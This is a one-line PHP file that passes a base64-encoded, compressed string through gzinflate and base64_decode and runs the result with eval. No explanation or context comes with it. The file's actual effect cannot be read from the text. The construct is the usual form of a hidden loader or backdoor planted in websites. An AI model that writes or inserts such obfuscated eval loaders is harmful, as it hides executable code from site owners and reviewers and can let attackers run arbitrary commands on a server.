<?php eval(gzinflate(base64_decode('S03OyFcoSS0uUShKLS7NKclMzs9L0VEoSS0uUShKLS7NKclMzs9LAQA='))); ?>
